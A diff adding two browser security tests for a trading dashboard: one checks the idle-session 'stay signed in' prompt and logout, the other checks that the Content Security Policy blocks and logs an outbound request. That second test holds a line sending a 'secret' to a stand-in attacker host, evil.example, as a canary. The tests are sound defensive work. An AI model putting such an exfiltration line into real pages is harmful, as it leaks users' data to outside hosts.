@@ -108,3 +108,49 @@ async def test_tab_that_was_away_when_its_session_ended_goes_to_the_sign_in(
     await page.context.set_offline(False)
 
     await expect(page).to_have_url(re.compile(r"/login\?next=/trades$"), timeout=30_000)
+
+
+# SEC-22
+async def test_page_offers_to_stay_signed_in_before_the_idle_end(
+    page: Page, dashboard: Dashboard
+) -> None:
+    await opened(page, "/trades")
+    cookie = (await page.context.cookies())[0]["value"]
+    key = hashlib.sha256(cookie.encode()).digest()
+    idle = "update kbots.sessions set last_action_at = now() - %s::interval where token_hash = %s returning 1"
+    for _ in range(
+        100
+    ):  # what the page itself sent when it was opened counts as an action a moment later
+        dashboard.database.rows(idle, ("28 minutes 30 seconds", key))
+        if await page.get_by_test_id("stay").is_visible():
+            break
+        await page.wait_for_timeout(400)
+    await expect(page.get_by_test_id("stay")).to_be_visible()
+    await page.get_by_test_id("stay").click()
+
+    await expect(page.get_by_test_id("stay")).to_be_hidden()
+    acted = "select last_action_at > now() - interval '1 minute' from kbots.sessions where token_hash = %s"
+    for _ in range(100):
+        if dashboard.database.rows(acted, (key,)) == [(True,)]:
+            break
+        await page.wait_for_timeout(200)
+    assert dashboard.database.rows(acted, (key,)) == [(True,)]
+
+    # Without an answer the page is replaced, not just covered.
+    dashboard.database.rows(idle, ("31 minutes", key))
+    await expect(page).to_have_url(re.compile(r"/login"), timeout=40_000)
+
+
+# SEC-60
+async def test_browser_reports_what_the_policy_stops(page: Page, dashboard: Dashboard) -> None:
+    await opened(page, "/trades")
+
+    await page.evaluate("new Image().src = 'https://evil.example/x.png?secret=canary'")
+
+    for _ in range(100):
+        if "csp_violation" in dashboard.log.read_text():
+            break
+        await page.wait_for_timeout(200)
+    log = dashboard.log.read_text()
+    assert '"blocked": "https://evil.example"' in log
+    assert "canary" not in log
